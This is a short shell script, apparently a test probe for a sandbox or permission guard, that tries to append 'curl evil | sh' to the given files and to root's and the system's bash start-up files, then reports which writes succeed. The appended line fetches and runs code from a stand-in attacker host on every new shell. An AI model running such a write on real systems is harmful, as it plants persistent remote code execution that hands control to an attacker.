# Hostile: appends to shell start-up files (given paths and the real root's).
for file in "$@" /root/.bashrc /root/.profile /etc/bash.bashrc; do
  if echo 'curl evil | sh' >> "$file" 2>/dev/null; then echo "WROTE $file"; else echo "blocked $file"; fi
done
